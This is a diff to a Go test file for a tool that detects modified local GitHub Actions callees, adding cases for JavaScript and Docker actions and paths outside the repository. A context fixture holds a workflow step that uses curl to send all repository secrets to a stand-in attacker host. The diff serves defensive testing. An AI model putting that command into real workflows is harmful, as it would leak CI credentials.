@@ -52,6 +52,7 @@ func checkModified(t *testing.T, wf input.Workflow, want []modifiedRow) {
 const (
 	reusableCall = "on: push\njobs:\n  call:\n    uses: ./.github/workflows/reusable.yml\n    secrets: inherit\n"
 	reusable     = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
+	nodeAction   = "runs:\n  using: node20\n  main: dist/index.js\n  post: post.js\n"
 	exfiltrating = "on: workflow_call\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n"
 )
 
@@ -120,6 +121,30 @@ func TestModifiedLocalCallees(t *testing.T) {
 			head: map[string]string{action + "/action.yml": string(composite("acme/evil@v1"))},
 			base: map[string]string{action + "/action.yml": string(composite("acme/lint@v1"))},
 			want: []modifiedRow{{Path: action + "/action.yml", Uses: "$/" + action, Change: "differs", Digest: true}},
+		},
+		{
+			name: "JavaScript action: same metadata, modified entry point", caller: string(steps("./" + action)),
+			head: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "steal()", action + "/post.js": "cleanup()"},
+			base: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()", action + "/post.js": "cleanup()"},
+			want: []modifiedRow{{Path: action + "/dist/index.js", Uses: "./" + action, Change: "differs", Digest: true}},
+		},
+		{
+			name: "JavaScript action: missing entry point is not unmodified", caller: string(steps("./" + action)),
+			head: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()"},
+			base: map[string]string{action + "/action.yml": nodeAction, action + "/dist/index.js": "build()", action + "/post.js": "cleanup()"},
+			want: []modifiedRow{{Path: action + "/post.js", Uses: "./" + action, Change: "unknown", Reason: "unreadable at the head commit"}},
+		},
+		{
+			name: "JavaScript action: entry point outside the repository", caller: string(steps("./" + action)),
+			head: map[string]string{action + "/action.yml": "runs:\n  using: node20\n  main: ../../../../x.js\n"},
+			base: map[string]string{action + "/action.yml": "runs:\n  using: node20\n  main: ../../../../x.js\n"},
+			want: []modifiedRow{{Path: "../../../../x.js", Uses: "./" + action, Change: "unknown", Reason: "outside the repository"}},
+		},
+		{
+			name: "Dockerfile action: modified Dockerfile", caller: string(steps("./" + action)),
+			head: map[string]string{action + "/action.yml": "runs:\n  using: docker\n  image: Dockerfile\n", action + "/Dockerfile": "FROM evil\n"},
+			base: map[string]string{action + "/action.yml": "runs:\n  using: docker\n  image: Dockerfile\n", action + "/Dockerfile": "FROM alpine\n"},
+			want: []modifiedRow{{Path: action + "/Dockerfile", Uses: "./" + action, Change: "differs", Digest: true}},
 		},
 		{
 			name: "the same callee used twice is one entry", caller: string(steps("./"+action, "./"+action)),
